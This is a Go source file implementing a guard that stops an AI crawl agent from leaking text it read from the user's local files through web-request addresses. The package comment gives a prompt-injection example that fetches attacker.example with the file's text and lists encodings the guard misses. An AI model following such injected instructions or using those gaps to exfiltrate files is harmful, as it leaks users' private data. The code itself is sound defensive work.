// Package exfil keeps text read from the user's local files from leaving in the address
// of a web request: a prompt-injected page can ask the crawl agent to read a file and then
// fetch https://attacker.example/?d=<the file's text>. A Guard remembers the text that
// read_file and search_files gave the agents of one run, and web_fetch asks it about every
// address before fetching (see docs/ARCHITECTURE.md, "Security").
//
// The rule: an address is refused when it carries a run of MinRun (12) or more characters
// of remembered text, as written, percent-encoded (once or repeatedly, "+" as a space or
// not), base64-encoded (standard or URL alphabet, padded or not, starting anywhere in a
// run of base64 characters) or hex-encoded (either case, starting anywhere), ASCII case
// ignored. Three things read from the files are not data: an address the text itself holds
// as a link may be fetched; text inside links (http(s)://…, www.…, or a host name and path
// such as docs.python.org/3/) is not guarded, so a notes file listing pages to read works,
// and so do other pages of the sites it links to; and a host name the text mentions may be
// the host fetched (its other parts are still checked). Other encodings (compression,
// encryption, base32, reversing, a few characters at a time) are not recognized: this is
// a guard against text carried off as it is or in a common encoding, not a proof.
//
// Memory is bounded: a Guard keeps at most its limit of text (DefaultMaxText, 2 MB; when
// more is read, the oldest reads are forgotten first), lower-cased, plus a table of its
// 9-character windows at every fourth character (a 12-character run always holds one of
// them): a 32-bit fingerprint and the window's first position, 8 bytes an entry, the
// table at most half full, so at most 8 MB for 2 MB of text: about 10 MB in all when full.
// Checking a 2 KB address against 2 MB of text takes about half a millisecond
// (BenchmarkCheck).
package exfil

import (
	"bytes"
	"errors"
	"fmt"
	"hash/maphash"
	"strings"
	"sync"
	"unicode/utf8"
)

// MinRun is the length, in characters, of the shortest run of remembered text an address
// may not carry.
const MinRun = 12

// DefaultMaxText is how many bytes of text a Guard made with New(0) remembers.
const DefaultMaxText = 2 << 20

// The sampled windows: a window of seedRunes characters at every step-th character of
// the text; any run of seedRunes+step-1 = MinRun characters contains one.
const (
	seedRunes = 9
	step      = MinRun - seedRunes + 1
)

// maxVerify bounds the windows of one address that are looked for in the text; an
// address with more windows in common with the text than that is refused (no honest
// address shares dozens of 9-character pieces with the files without a 12-character one).
const maxVerify = 200

// ErrCarriesLocalText is wrapped by the error Check returns for a refused address.
var ErrCarriesLocalText = errors.New("the address carries text read from local files")

// LeakError is Check's refusal: the address carries remembered text in Encoding ("as
// written", "percent-encoded", "base64-encoded", "hex-encoded"). Host is the address's host
// (for messages; the rest of the address holds the text and is not repeated). It wraps
// ErrCarriesLocalText.
type LeakError struct {
	Host     string
	Encoding string
}

// Error says what was refused without quoting the text.
func (e *LeakError) Error() string {
	return fmt.Sprintf("%v (%s, at least %d characters)", ErrCarriesLocalText, e.Encoding, MinRun)
}

// Unwrap returns ErrCarriesLocalText.
func (e *LeakError) Unwrap() error { return ErrCarriesLocalText }

// Guard remembers text read from local files during one run and checks addresses against
// it. The zero value is not usable; a nil *Guard remembers nothing and allows everything.
// It is safe for concurrent use.
type Guard struct {
	mu   sync.Mutex
	max  int
	seed maphash.Seed

	text  []byte         // remembered text, lower-cased; each read followed by a 0 byte
	reads []read         // what text holds, oldest first
	spans []span         // links in text, in order
	links map[string]int // link and host keys (linkKey, hostKey) → how many reads hold them

	// set is an open-addressing table of the sampled windows: fingerprint<<32 | position
	// in text of its first window, with multiBit set when more windows had that
	// fingerprint; 0 is an empty slot.
	set []uint64
	n   int // entries in set
}

// read is one remembered text: its bytes in Guard.text and the keys of its links and
// host names.
type read struct {
	start, end int
	links      []string
}

// span is a link's bytes in Guard.text.
type span struct{ start, end int }

// New returns a Guard remembering at most maxText bytes (DefaultMaxText when <= 0).
func New(maxText int) *Guard {
	if maxText <= 0 {
		maxText = DefaultMaxText
	}
	return &Guard{max: maxText, seed: maphash.MakeSeed(), links: map[string]int{}}
}

// Remember adds text that a tool read from the user's files (a read_file excerpt, the
// passages of a search_files result). Past the Guard's limit the oldest texts are
// forgotten; a text longer than the limit keeps its first limit bytes.
func (g *Guard) Remember(text string) {
	if g == nil || strings.TrimSpace(text) == "" {
		return
	}
	if len(text) >= g.max {
		text = text[:runeStart(text, g.max-1)]
	}
	low := lowerASCII([]byte(text))
	g.mu.Lock()
	defer g.mu.Unlock()
	if len(g.text)+len(low)+1 > g.max {
		g.forget(len(low) + 1)
	}
	start := len(g.text)
	g.text = append(g.text, low...)
	g.text = append(g.text, 0)
	r := read{start: start, end: start + len(low)}
	spans, hosts := findLinks(low)
	for _, s := range spans {
		r.links = append(r.links, linkKey(string(low[s.start:s.end])))
		g.spans = append(g.spans, span{start + s.start, start + s.end})
	}
	for _, h := range hosts {
		r.links = append(r.links, hostKey(h))
	}
	for _, k := range r.links {
		g.links[k]++
	}
	g.reads = append(g.reads, r)
	g.index(r, len(g.spans)-len(spans))
}

// forget drops the oldest reads until need more bytes fit in three quarters of the limit
// (so that the rebuild this takes is not repeated at every read), then rebuilds the index.
func (g *Guard) forget(need int) {
	keep := g.max*3/4 - need
	drop := 0
	for drop < len(g.reads) && len(g.text)-g.reads[drop].start > keep {
		for _, k := range g.reads[drop].links {
			if g.links[k]--; g.links[k] <= 0 {
				delete(g.links, k)
			}
		}
		drop++
	}
	if drop == 0 {
		return
	}
	cut := len(g.text)
	if drop < len(g.reads) {
		cut = g.reads[drop].start
	}
	g.text = append([]byte(nil), g.text[cut:]...)
	g.reads = append([]read(nil), g.reads[drop:]...)
	for i := range g.reads {
		g.reads[i].start -= cut
		g.reads[i].end -= cut
	}
	var spans []span
	for _, s := range g.spans {
		if s.start >= cut {
			spans = append(spans, span{s.start - cut, s.end - cut})
		}
	}
	g.spans = spans
	g.set, g.n = nil, 0
	si := 0
	for _, r := range g.reads {
		for si < len(g.spans) && g.spans[si].start < r.start {
			si++
		}
		g.index(r, si)
	}
}

// index adds the fingerprints of r's sampled windows that are not wholly inside a link;
// spans[si:] are the links from r on.
func (g *Guard) index(r read, si int) {
	var ring [seedRunes + 1]int
	k := 0
	for p := r.start; ; k++ {
		ring[k%(seedRunes+1)] = p
		if w := k - seedRunes; w >= 0 && w%step == 0 {
			a := ring[w%(seedRunes+1)]
			for si < len(g.spans) && g.spans[si].end < p {
				si++
			}
			if !(si < len(g.spans) && g.spans[si].start <= a && p <= g.spans[si].end) {
				g.add(g.fingerprint(g.text[a:p]), a)
			}
		}
		if p >= r.end {
			break
		}
		_, size := utf8.DecodeRune(g.text[p:r.end])
		p += size
	}
}

// fingerprint is the 32-bit hash of a window, never 0.
func (g *Guard) fingerprint(b []byte) uint32 {
	h := maphash.Bytes(g.seed, b)
	f := uint32(h) ^ uint32(h>>32)
	if f == 0 {
		f = 1
	}
	return f
}

// multiBit marks an entry whose fingerprint belongs to more than one window.
const multiBit = 1 << 31

// add records the window with fingerprint f at position pos of text, growing the table to
// keep it at most half full.
func (g *Guard) add(f uint32, pos int) {
	if 2*(g.n+1) > len(g.set) {
		old := g.set
		g.set = make([]uint64, max(1024, 2*len(old)))
		g.n = 0
		for _, e := range old {
			if e != 0 {
				g.put(e)
			}
		}
	}
	g.put(uint64(f)<<32 | uint64(pos))
}

// put inserts entry e, or marks the entry of its fingerprint as multiple.
func (g *Guard) put(e uint64) {
	mask := uint64(len(g.set) - 1)
	for i := (e >> 32) & mask; ; i = (i + 1) & mask {
		switch {
		case g.set[i] == 0:
			g.set[i] = e
			g.n++
			return
		case g.set[i]>>32 == e>>32:
			g.set[i] |= multiBit | e&multiBit
			return
		}
	}
}

// lookup returns the position of the first window with fingerprint f and whether others
// have it too; ok is false when none has it.
func (g *Guard) lookup(f uint32) (pos int, multi, ok bool) {
	if len(g.set) == 0 {
		return 0, false, false
	}
	mask := uint64(len(g.set) - 1)
	for i := uint64(f) & mask; ; i = (i + 1) & mask {
		e := g.set[i]
		switch {
		case e == 0:
			return 0, false, false
		case uint32(e>>32) == f:
			return int(uint32(e) &^ multiBit), e&multiBit != 0, true
		}
	}
}

// Check returns nil when rawURL may be fetched, or a *LeakError (wrapping
// ErrCarriesLocalText) when it carries remembered text (see the package documentation).
// An address the remembered text holds as a link is always allowed.
func (g *Guard) Check(rawURL string) error {
	if g == nil {
		return nil
	}
	g.mu.Lock()
	defer g.mu.Unlock()
	if g.n == 0 {
		return nil
	}
	orig := strings.TrimSpace(rawURL)
	low := string(lowerASCII([]byte(orig)))
	if g.links[linkKey(low)] > 0 {
		return nil
	}
	host, rest := splitHost(low)
	if host != "" && g.links[hostKey(host)] > 0 {
		// A host the files name is where the agent goes, not what it sends.
		low = rest
		_, orig = splitHost(orig)
	}
	budget := maxVerify
	leak := func(enc string) error { return &LeakError{Host: host, Encoding: enc} }
	carries := func(b []byte) bool {
		found, over := g.carries(b, &budget)
		return found || over
	}
	if carries([]byte(low)) {
		return leak("as written")
	}
	levels := percentLevels([]byte(low))
	for _, l := range levels[1:] {
		if carries(lowerASCII(bytes.Clone(l))) {
			return leak("percent-encoded")
		}
	}
	for _, l := range levels {
		if bytes.IndexByte(l, '+') >= 0 && carries(lowerASCII(bytes.ReplaceAll(l, []byte("+"), []byte(" ")))) {
			return leak("percent-encoded")
		}
	}
	// Encoded text is case-sensitive: decode it from the address as written (and as
	// percent-decoded).
	sources := percentLevels([]byte(orig))
	for _, src := range sources {
		for _, run := range runs(src, isBase64, 16) {
			for off := range 4 {
				if off < len(run) && carries(lowerASCII(decodeBase64(run[off:]))) {
					return leak("base64-encoded")
				}
			}
		}
		for _, run := range runs(src, isHex, 2*MinRun) {
			for off := range 2 {
				if carries(lowerASCII(decodeHex(run[off:]))) {
					return leak("hex-encoded")
				}
			}
		}
	}
	return nil
}

// carries reports whether b (lower-cased) holds a run of MinRun characters of the text
// outside its links. A window of b found in the text is extended to the runs of MinRun
// characters holding it, compared at its position in the text; a window the text has in
// several places costs one of *budget searches of the whole text, and over reports that
// the budget ran out.
func (g *Guard) carries(b []byte, budget *int) (found, over bool) {
	if utf8.RuneCount(b) < MinRun {
		return false, false
	}
	starts := make([]int, 0, len(b)+1)
	for p := 0; p < len(b); {
		starts = append(starts, p)
		_, size := utf8.DecodeRune(b[p:])
		p += size
	}
	starts = append(starts, len(b))
	runes := len(starts) - 1
	for i := 0; i+seedRunes <= runes; i++ {
		seed := b[starts[i]:starts[i+seedRunes]]
		pos, multi, ok := g.lookup(g.fingerprint(seed))
		if !ok {
			continue
		}
		if !multi && !bytes.HasPrefix(g.text[pos:], seed) {
			continue // another window with the same fingerprint
		}
		// The runs of MinRun characters of b holding this window, at each of step offsets.
		for k := range step {
			j := i - k
			if j < 0 || j+MinRun > runes {
				continue
			}
			x := b[starts[j]:starts[j+MinRun]]
			if a := pos - (starts[i] - starts[j]); a >= 0 && bytes.HasPrefix(g.text[a:], x) && !g.inLink(a, a+len(x)) {
				return true, false
			}
		}
		if !multi {
			continue
		}
		if *budget--; *budget < 0 {
			return false, true
		}
		for k := range step {
			j := i - k
			if j >= 0 && j+MinRun <= runes && g.holds(b[starts[j]:starts[j+MinRun]]) {
				return true, false
			}
		}
	}
	return false, false
}

// holds reports whether x occurs in the text somewhere not wholly inside a link.
func (g *Guard) holds(x []byte) bool {
	if bytes.IndexByte(x, 0) >= 0 {
		return false
	}
	for from := 0; ; {
		i := bytes.Index(g.text[from:], x)
		if i < 0 {
			return false
		}
		a := from + i
		if !g.inLink(a, a+len(x)) {
			return true
		}
		from = a + 1
	}
}

// inLink reports whether text[a:b] lies wholly inside one link.
func (g *Guard) inLink(a, b int) bool {
	lo, hi := 0, len(g.spans)
	for lo < hi { // the first span ending at or after b
		m := (lo + hi) / 2
		if g.spans[m].end < b {
			lo = m + 1
		} else {
			hi = m
		}
	}
	return lo < len(g.spans) && g.spans[lo].start <= a
}

// hostKey is the key of a host name in Guard.links.
func hostKey(host string) string { return "\x00host " + host }

// splitHost splits an address into its host name (without user info and port) and the
// address without the host; host is "" when there is none.
func splitHost(u string) (host, rest string) {
	i := strings.Index(u, "://")
	if i < 0 {
		return "", u
	}
	a := i + 3
	e := a + strings.IndexAny(u[a:]+"/", "/?#")
	auth := u[a:e]
	hs := strings.LastIndexByte(auth, '@') + 1
	he := len(auth)
	if c := strings.LastIndexByte(auth[hs:], ':'); c >= 0 && !strings.Contains(auth[hs+c:], "]") {
		he = hs + c
	}
	return auth[hs:he], u[:a+hs] + u[a+he:]
}

// isHostByte reports a byte that can continue a host name.
func isHostByte(c byte) bool {
	return c >= 'a' && c <= 'z' || c >= '0' && c <= '9' || c == '-' || c == '.' || c >= 'A' && c <= 'Z'
}

// findLinks returns the links in text (lower-case) and the host names it mentions. A link
// is, in a piece of text between white space and characters that do not belong in an
// address, what follows the first "http://", "https://" or "www.", or the whole piece when
// it starts with a host name whose last label is letters followed by "/"
// ("docs.python.org/3/"); without trailing punctuation or an unbalanced ")". The host
// names are those of the links and the pieces that are host names (or e-mail addresses)
// themselves.
func findLinks(text []byte) (links []span, hosts []string) {
	for i := 0; i < len(text); {
		if endsLink(text[i]) {
			i++
			continue
		}
		e := i
		for e < len(text) && !endsLink(text[e]) {
			e++
		}
		piece := bytes.TrimLeft(bytes.TrimRight(text[i:e], ".,;:!?*_~')\""), "('*_")
		if j := linkStart(text[i:e]); j >= 0 {
			j += i
			end := e
			for end > j {
				c := text[end-1]
				if strings.IndexByte(".,;:!?*_~'", c) >= 0 ||
					c == ')' && bytes.Count(text[j:end], []byte("(")) < bytes.Count(text[j:end], []byte(")")) {
					end--
					continue
				}
				break
			}
			if end-j > len("www.") {
				links = append(links, span{j, end})
				h, _ := splitHost("//" + strings.TrimPrefix(strings.TrimPrefix(string(text[j:end]), "http://"), "https://"))
				if hostName([]byte(h)) {
					hosts = append(hosts, h)
				}
			}
		} else if at := bytes.LastIndexByte(piece, '@'); hostName(piece[at+1:]) {
			hosts = append(hosts, string(piece[at+1:]))
		}
		i = e
	}
	return links, hosts
}

// linkStart returns where a link starts in piece, or -1 (see findLinks).
func linkStart(piece []byte) int {
	j := -1
	for _, p := range [...]string{"http://", "https://", "www."} {
		if k := bytes.Index(piece, []byte(p)); k >= 0 && (j < 0 || k < j) && (p != "www." || k == 0 || !isHostByte(piece[k-1])) {
			j = k
		}
	}
	if j >= 0 {
		return j
	}
	k := 0
	for k < len(piece) && strings.IndexByte("('*_", piece[k]) >= 0 {
		k++
	}
	if hostPath(piece[k:]) {
		return k
	}
	return -1
}

// hostPath reports whether b starts with a host name (hostName) followed by "/".
func hostPath(b []byte) bool {
	slash := bytes.IndexByte(b, '/')
	return slash > 0 && hostName(b[:slash])
}

// hostName reports whether b is a host name of at least two labels of letters, digits and
// "-", the last of two to 24 letters.
func hostName(b []byte) bool {
	labels, label, letters := 1, 0, true
	for _, c := range b {
		switch {
		case c == '.':
			if label == 0 {
				return false
			}
			labels, label, letters = labels+1, 0, true
		case c >= 'a' && c <= 'z':
			label++
		case c >= '0' && c <= '9' || c == '-':
			label, letters = label+1, false
		default:
			return false
		}
	}
	return labels >= 2 && letters && label >= 2 && label <= 24
}

// endsLink reports a byte that cannot be part of a link in text.
func endsLink(c byte) bool {
	return c <= ' ' || c == 0x7f || strings.IndexByte("<>\"`[]{}|\\^", c) >= 0
}

// linkKey is how a link and a fetched address are compared: lower-case, without the
// scheme, the fragment and a trailing "/".
func linkKey(u string) string {
	u = strings.TrimPrefix(strings.TrimPrefix(u, "https://"), "http://")
	if i := strings.IndexByte(u, '#'); i >= 0 {
		u = u[:i]
	}
	return strings.TrimRight(u, "/")
}

// lowerASCII lower-cases the ASCII letters of b in place and returns it.
func lowerASCII(b []byte) []byte {
	for i, c := range b {
		if c >= 'A' && c <= 'Z' {
			b[i] = c + 'a' - 'A'
		}
	}
	return b
}

// runeStart returns the largest rune start of s at or before i.
func runeStart(s string, i int) int {
	for i > 0 && !utf8.RuneStart(s[i]) {
		i--
	}
	return i
}

// percentDecode decodes every valid %XX escape of b, keeping anything else as it is.
func percentDecode(b []byte) []byte {
	out := make([]byte, 0, len(b))
	for i := 0; i < len(b); i++ {
		switch {
		case b[i] == '%' && i+2 < len(b) && unhex(b[i+1]) >= 0 && unhex(b[i+2]) >= 0:
			out = append(out, byte(unhex(b[i+1])<<4|unhex(b[i+2])))
			i += 2
		default:
			out = append(out, b[i])
		}
	}
	return out
}

// unhex returns the value of a hex digit, or -1.
func unhex(c byte) int {
	switch {
	case c >= '0' && c <= '9':
		return int(c - '0')
	case c >= 'a' && c <= 'f':
		return int(c-'a') + 10
	case c >= 'A' && c <= 'F':
		return int(c-'A') + 10
	}
	return -1
}

// isBase64 reports a character of either base64 alphabet.
func isBase64(c byte) bool {
	return c >= 'A' && c <= 'Z' || c >= 'a' && c <= 'z' || c >= '0' && c <= '9' || c == '+' || c == '/' || c == '-' || c == '_'
}

// isHex reports a hex digit.
func isHex(c byte) bool { return unhex(c) >= 0 }

// runs returns the maximal runs of bytes of b for which in holds, of at least minLen.
func runs(b []byte, in func(byte) bool, minLen int) [][]byte {
	var out [][]byte
	for i := 0; i < len(b); {
		if !in(b[i]) {
			i++
			continue
		}
		j := i
		for j < len(b) && in(b[j]) {
			j++
		}
		if j-i >= minLen {
			out = append(out, b[i:j])
		}
		i = j
	}
	return out
}

// b64 maps a character of either base64 alphabet to its value.
var b64 = func() (t [256]int8) {
	for i := range t {
		t[i] = -1
	}
	const std = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
	for i := range len(std) {
		t[std[i]] = int8(i)
	}
	t['-'], t['_'] = 62, 63
	return t
}()

// decodeBase64 decodes whole groups of four characters of s (either alphabet), leaving a
// partial group at the end out.
func decodeBase64(s []byte) []byte {
	out := make([]byte, 0, len(s)*3/4)
	for i := 0; i+4 <= len(s); i += 4 {
		v := uint32(b64[s[i]])<<18 | uint32(b64[s[i+1]])<<12 | uint32(b64[s[i+2]])<<6 | uint32(b64[s[i+3]])
		out = append(out, byte(v>>16), byte(v>>8), byte(v))
	}
	return out
}

// decodeHex decodes whole pairs of hex digits of s.
func decodeHex(s []byte) []byte {
	out := make([]byte, 0, len(s)/2)
	for i := 0; i+2 <= len(s); i += 2 {
		out = append(out, byte(unhex(s[i])<<4|unhex(s[i+1])))
	}
	return out
}

// percentLevels returns b and its percent-decodings, each the decoding of the one before,
// four in all at most, stopping when decoding changes nothing.
func percentLevels(b []byte) [][]byte {
	levels := [][]byte{b}
	for cur := b; len(levels) < 4; {
		d := percentDecode(cur)
		if bytes.Equal(d, cur) {
			break
		}
		levels = append(levels, d)
		cur = d
	}
	return levels
}
